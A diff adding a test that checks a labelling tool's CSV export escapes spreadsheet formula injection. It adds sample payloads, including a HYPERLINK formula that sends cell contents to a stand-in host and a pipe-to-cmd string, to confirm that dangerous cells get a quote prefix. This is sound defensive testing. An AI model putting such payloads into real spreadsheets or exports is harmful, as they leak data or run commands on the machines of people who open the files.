@@ -273,3 +273,66 @@ def test_compare_two_models_side_by_side(db_url, broker_url, tiny_models, tmp_pa
         env=env,
     )
     assert json.loads(same.stdout.splitlines()[-1])["disagreement_rate"] == 0.0
+
+
+FORMULA_IDS = [
+    '=HYPERLINK("http://x.example/?"&A1,"open")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+]
+
+
+def test_export_csv_neutralises_formulas(db_url, broker_url, tmp_path):
+    """Every cell a spreadsheet would run as a formula is written with a leading `'`
+    (OWASP): external ids, a failed item's error, the label and the output text."""
+    records = [
+        {"external_id": eid, "messages": [{"role": "user", "content": f"hello {i}"}]}
+        for i, eid in enumerate(FORMULA_IDS)
+    ]
+    with transaction(db_url) as s:
+        ingest_conversations(s, records)
+        ledger.discover(s, task="intent", source_kind="conversation")
+    n = len(records)
+    with transaction(db_url) as s:
+        (batch,) = ledger.claim_batches(s, task="intent", limit=n, batch_size=n, lease_seconds=60)
+    with transaction(db_url) as s:
+        ledger.start_batch(
+            s, batch_id=batch.batch_id, item_ids=batch.item_ids, worker="w", lease_seconds=60
+        )
+        first, *rest = batch.item_ids
+        outcomes = [ledger.Outcome(first, None, "=/tmp/a.wav|cmd: cannot read")]
+        for item_id in rest:
+            result = {
+                "label": "-neg",
+                "confidence": 0.5,
+                "scores": {"-neg": 0.5},
+                "output": "@mention",
+                "model_name": "m",
+                "model_tier": 0,
+                "device": "cpu",
+                "latency_ms": 3.0,
+            }
+            outcomes.append(ledger.Outcome(item_id, result))
+        ledger.finish_batch(s, batch_id=batch.batch_id, outcomes=outcomes)
+
+    path = tmp_path / "r.csv"
+    res = CliRunner().invoke(
+        main,
+        ["export", "-t", "intent", "--format", "csv", "-o", str(path)],
+        env=_env(db_url, broker_url, tmp_path),
+    )
+    assert res.exit_code == 0, res.output
+    with path.open(newline="") as f:  # keep a cell's \r as written
+        table = list(csv.DictReader(f))
+    assert sorted(r["external_id"] for r in table) == sorted("'" + e for e in FORMULA_IDS)
+    cells = [v for r in table for v in r.values() if v]
+    assert not [v for v in cells if v[0] in "=+-@\t\r"]
+    assert [r["error"] for r in table if r["status"] == "failed"] == [
+        "'=/tmp/a.wav|cmd: cannot read"
+    ]
+    done = [r for r in table if r["status"] == "done"]
+    assert {r["label"] for r in done} == {"'-neg"} and {r["output"] for r in done} == {"'@mention"}
+    assert {r["confidence"] for r in done} == {"0.5"}
